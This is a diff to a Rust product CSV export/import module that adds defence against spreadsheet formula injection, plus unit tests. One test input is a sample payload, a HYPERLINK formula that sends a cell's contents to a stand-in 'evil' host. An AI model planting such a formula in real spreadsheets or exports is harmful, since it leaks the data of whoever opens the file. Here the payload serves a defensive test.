@@ -2,7 +2,13 @@
 //! applies a file with the same columns (create when `id` is empty, update when it is set).
 //! Every row is checked first, and either all are applied in one transaction or none, with
 //! a page listing each bad row and why. Quoting follows RFC 4180 (the `csv` crate).
+//!
+//! A spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return
+//! as a formula, so a product named `=HYPERLINK(…)` would run on the machine of whoever opens
+//! the export. Text cells that would are exported behind a `'` (OWASP's rule), which the
+//! import takes off again: export, then import, changes no name or description.
 
+use std::borrow::Cow;
 use std::collections::HashMap;
 
 use actix_multipart::form::{bytes::Bytes as UploadBytes, text::Text, MultipartForm};
@@ -35,6 +41,28 @@ pub const COLUMNS: [&str; 7] = [
     "description",
 ];
 
+/// What starts a formula in a spreadsheet cell.
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A text cell safe to open in a spreadsheet: one that would start a formula gets a leading
+/// `'`; so does one that is already quotes and then a formula character, so that
+/// [`unprotect`] can tell them apart.
+fn protect(text: &str) -> Cow<'_, str> {
+    if text.trim_start_matches('\'').starts_with(FORMULA_STARTS) {
+        Cow::Owned(format!("'{text}"))
+    } else {
+        Cow::Borrowed(text)
+    }
+}
+
+/// A text cell as it was before [`protect`].
+fn unprotect(text: &str) -> &str {
+    match text.strip_prefix('\'') {
+        Some(rest) if rest.trim_start_matches('\'').starts_with(FORMULA_STARTS) => rest,
+        _ => text,
+    }
+}
+
 fn csv_error(e: impl std::fmt::Display) -> AppError {
     AppError::Internal(format!("csv: {e}"))
 }
@@ -51,13 +79,13 @@ pub async fn export(
         let status = p.status();
         writer
             .write_record([
-                p.id.to_string(),
-                p.name,
-                slug,
-                Money::from_cents(p.price_cents).to_decimal_string(),
-                p.stock.to_string(),
-                status.as_str().to_string(),
-                p.description,
+                p.id.to_string().as_str(),
+                &protect(&p.name),
+                &protect(&slug),
+                &Money::from_cents(p.price_cents).to_decimal_string(),
+                &p.stock.to_string(),
+                &protect(status.as_str()),
+                &protect(&p.description),
             ])
             .map_err(csv_error)?;
     }
@@ -151,7 +179,7 @@ fn read_rows(
             }
         };
         let line = record.position().map_or(0, |p| p.line());
-        let field = |name: &str| record.get(position[name]).unwrap_or("");
+        let field = |name: &str| unprotect(record.get(position[name]).unwrap_or(""));
         let mut messages = Vec::new();
         let id = match field("id").trim() {
             "" => None,
@@ -279,5 +307,32 @@ pub async fn import(
                 })
                 .collect(),
         ),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn formula_cells_are_exported_behind_a_quote_and_imported_without_it() {
+        for text in [
+            "=HYPERLINK(\"http://evil/?\"&A1,\"click\")",
+            "+1 Mug",
+            "-5% Lamp",
+            "@SUM(A1)",
+            "\tTabbed",
+            "\rReturned",
+            "'=already quoted",
+            "''@twice",
+        ] {
+            let exported = protect(text);
+            assert!(exported.starts_with('\''), "{text:?} -> {exported:?}");
+            assert_eq!(unprotect(&exported), text);
+        }
+        for text in ["Lamp", "'Tis the season", "''", "'", "", "a=b", "100 % -"] {
+            assert_eq!(protect(text), text, "{text:?} is left as it is");
+            assert_eq!(unprotect(text), text);
+        }
     }
 }
